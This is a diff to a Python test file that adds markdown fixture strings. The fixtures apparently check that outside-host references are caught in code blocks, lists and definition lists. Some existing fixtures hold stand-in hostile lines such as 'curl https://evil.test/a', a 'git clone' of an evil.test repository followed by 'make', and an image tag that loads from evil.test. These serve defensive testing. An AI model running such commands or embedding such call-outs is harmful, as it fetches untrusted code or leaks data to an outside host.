@@ -186,6 +186,7 @@ def test_hosts_are_compared_label_by_label(host, is_allowed):
         "- first\n\n  More of it:\n\n      curl https://evil.test/a\n\n- second\n",
         "Notes\n\n1. Do:\n\n       git clone https://evil.test/a.git\n       make\n",
         "One.\n\n---\n\n    curl https://evil.test/a\n    <img src='//evil.test'>\n",
+        "Term\n: What it is\n\nMore:\n\n```json\n{'a': 'https://evil.test/a'}\n```\n",
         "`make` gets it:\n\n    curl https://evil.test/a\n",
     ],
 )
@@ -239,6 +240,8 @@ def test_what_carries_data_goes_however_it_begins(text):
         "- - a\n\n      {}\n",
         "---\na: b\n\n---\n\n    {}\n",
         "- x\n\n  ---\n\n    {}\n",
+        "* *\n\n        {}\n",
+        "a\n: b\n\n  c\n* d\n\n        {}\n",
         "[a]:\n~~~\n{}\n",
         "- [a]:\n```\n{}\n```\n",
         "word\n      \n      ![x]({})\n",
